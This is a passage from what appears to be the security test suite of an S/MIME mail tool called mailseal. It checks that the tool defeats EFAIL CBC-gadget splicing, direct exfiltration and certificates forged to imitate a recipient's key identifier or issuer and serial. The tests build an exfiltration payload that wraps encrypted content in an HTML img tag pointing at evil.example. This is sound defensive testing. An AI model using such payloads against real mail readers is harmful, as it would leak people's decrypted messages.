    known = (headers(From="mallory@evil.example", To="bob@example.org") + signed_victim)[:16]
    spliced_signed = splice_gadget(signed_cbc, known, chosen)
    result, written = decrypt(pkcs7_message(spliced_signed, "enveloped-data", top_signed))
    check(result.returncode == 1 and written is None,
          "efail.cbc_gadget_signed: a gadget in signed CBC content is caught, nothing written", text(result))
    # What mailseal writes by default (issue 12: AES-256-CBC, signed inside), its first plaintext block
    # as predictable as any: the attacker splices a gadget into it and sends it back to Bob.
    alice.must("contact", "import", bob.certificates())
    mailseal_cbc = alice.must("--json", "encrypt", write("letter.eml", letter), "-o", path("mailseal-cbc.eml"))
    check(json.loads(mailseal_cbc.stdout).get("content_cipher") == "AES-256-CBC",
          "efail.mailseal_default: mailseal's default encryption is AES-256-CBC", mailseal_cbc.stdout)
    sent = open(path("mailseal-cbc.eml"), "rb").read()
    top_sent, body_sent = sent.split(b"\r\n\r\n", 1)
    # mailseal streams (indefinite lengths); openssl re-encodes it with definite ones, which splice_gadget reads.
    sent_der = run("openssl", "cms", "-cmsout", "-inform", "DER", "-outform", "DER", stdin=base64.b64decode(body_sent))
    result, written = decrypt(sent)
    check(result.returncode == 0 and written is not None and b"Subject: Lunch" in written,
          "efail.mailseal_default: Bob's mailseal releases it as sent (signature inside valid)", text(result))
    spliced_sent = splice_gadget(sent_der, b"Content-Type: multipart/signed"[:16], chosen)
    top_only = b"\r\n".join(line for line in top_sent.split(b"\r\n")
                             if not line.lower().startswith((b"mime-version", b"content-"))) + b"\r\n"
    result, written = decrypt(pkcs7_message(spliced_sent, "enveloped-data", top_only))
    check(result.returncode == 1 and written is None,
          "efail.mailseal_default_gadget: a gadget spliced into mailseal's signed CBC is caught, nothing written",
          text(result))

    # --- EFAIL: direct exfiltration ----------------------------------------
    encrypted_for_bob = pkcs7_message(cbc, "enveloped-data", b"")
    exfiltrate = mixed("mixed", b"Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/?\r\n",
                       encrypted_for_bob, b"Content-Type: text/html\r\n\r\n\">\r\n")
    result, written = decrypt(exfiltrate, "--allow-unauthenticated", "--allow-bad-signature")
    check(result.returncode == 1 and written is None and "encrypted as a whole" in text(result),
          "efail.direct_exfiltration: an encrypted part among attacker HTML is not decrypted", text(result))
    attached = mixed("mixed", b"Content-Type: text/plain\r\n\r\nFYI\r\n",
                     b"Content-Type: message/rfc822\r\n\r\n" + pkcs7_message(cbc, "enveloped-data", top_cbc))
    result, written = decrypt(attached, "--allow-unauthenticated")
    check(result.returncode == 1 and written is None and "encrypted as a whole" in text(result),
          "efail.attached_rfc822: an encrypted message attached as message/rfc822 is not decrypted", text(result))

    # --- A co-recipient whose certificate imitates Bob's ---------------------
    # Mallory's own key in a certificate carrying Bob's key identifier, or his
    # issuer name and serial number (both public: they are in every copy of
    # Bob's certificate). A message to both names Bob twice; readers that stop
    # at the first entry naming them (OpenSSL's CMS_decrypt with a certificate,
    # NSS) could not read it when Mallory's comes first.
    def field(certificate, *options):
        return run("openssl", "x509", "-noout", *options, "-in", certificate).decode().strip()

    bob_key_id = field(bob_encryption, "-ext", "subjectKeyIdentifier").splitlines()[-1].strip().replace(":", "")
    bob_issuer = field(bob_encryption, "-issuer", "-nameopt", "compat").split("=", 1)[1]
    bob_serial = field(bob_encryption, "-serial").split("=", 1)[1]
    run("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "30", "-subj", bob_issuer,
        "-addext", "basicConstraints=critical,CA:TRUE", "-addext", "keyUsage=critical,keyCertSign",
        "-keyout", path("imitation-ca.key"), "-out", path("imitation-ca.pem"))
    imitations = {"key identifier": f"subjectKeyIdentifier={bob_key_id}\n",
                  "issuer and serial number": "subjectKeyIdentifier=hash\n"}
    for kind, extension in imitations.items():
        name = "imitation-" + kind.split()[0]
        write(f"{name}.cnf", (f"basicConstraints=critical,CA:FALSE\nkeyUsage=critical,keyEncipherment\n"
                              f"extendedKeyUsage=emailProtection\nsubjectAltName=email:mallory@evil.example\n"
                              + extension).encode())
        run("openssl", "req", "-new", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=mallory",
            "-keyout", path(f"{name}.key"), "-out", path(f"{name}.csr"))
        serial = ["-set_serial", "0x" + bob_serial] if kind.startswith("issuer") else ["-set_serial", "7"]
        run("openssl", "x509", "-req", "-days", "30", "-in", path(f"{name}.csr"), "-CA", path("imitation-ca.pem"),
            "-CAkey", path("imitation-ca.key"), *serial, "-extfile", path(f"{name}.cnf"), "-out", path(f"{name}.pem"))
        check(field(path(f"{name}.pem"), "-ext", "subjectKeyIdentifier").splitlines()[-1].strip().replace(":", "")
              == bob_key_id if kind == "key identifier" else field(path(f"{name}.pem"), "-serial") ==
              "serial=" + bob_serial, f"imitation.{name}: Mallory's certificate carries Bob's {kind}")
        # The reader: an envelope (made by openssl) whose first entry naming Bob is Mallory's.
        options = ["-keyid"] if kind == "key identifier" else []
        payload = write("imitated.eml", headers(From="alice@example.com", To="bob@example.org") +
                        b"Content-Type: text/plain\r\n\r\nFor Bob and Mallory.\r\n")
        mallory_first = None
        for _ in range(40):
            der = run("openssl", "cms", "-encrypt", "-aes-256-cbc", "-outform", "DER", *options, "-in", payload,
                      path(f"{name}.pem"), bob_encryption)
            # OpenSSL, given a certificate, uses the first entry naming it: that
            # Mallory's key opens it means Mallory's entry comes first.
            opened = subprocess.run(["openssl", "cms", "-decrypt", "-inform", "DER", "-recip", path(f"{name}.pem"),
                                     "-inkey", path(f"{name}.key")], input=der, capture_output=True)
            if opened.returncode == 0 and b"For Bob and Mallory" in opened.stdout:
                mallory_first = der
                break
        if not check(mallory_first is not None, f"imitation.{name}: an envelope with Mallory's entry first"):
            continue
        top = headers(From="alice@example.com", To="bob@example.org", Subject="[...]", Date=now_date())
        result, written = decrypt(pkcs7_message(mallory_first, "enveloped-data", top), "--allow-unauthenticated")
        check(result.returncode == 0 and written is not None and b"For Bob and Mallory" in written,
              f"imitation.{name}: Bob reads a message whose first entry naming his {kind} is Mallory's",
              text(result))
        # The sender: mailseal refuses to write such a message at all, naming both.
        sender = Home(work, f"Sam-{name}")
        sender.must("init", "sam@example.net")
        sender.must("contact", "import", bob.certificates())
        sender.must("contact", "import", write(f"{name}-chain.pem", open(path(f"{name}.pem"), "rb").read() +
                                                open(path("imitation-ca.pem"), "rb").read()))
        out = path(f"{name}-sent.eml")
        result = sender.run("encrypt", write("to-both.eml", headers(From="sam@example.net",
                                                                   To="bob@example.org, mallory@evil.example") +
                                               b"\r\nHello both.\r\n"), "-o", out)
        check(result.returncode != 0 and not os.path.exists(out) and kind in text(result) and "imitates" in text(result),
              f"imitation.{name}: mailseal refuses to encrypt to Bob and his imitator together", text(result))

finish(minimum=110)
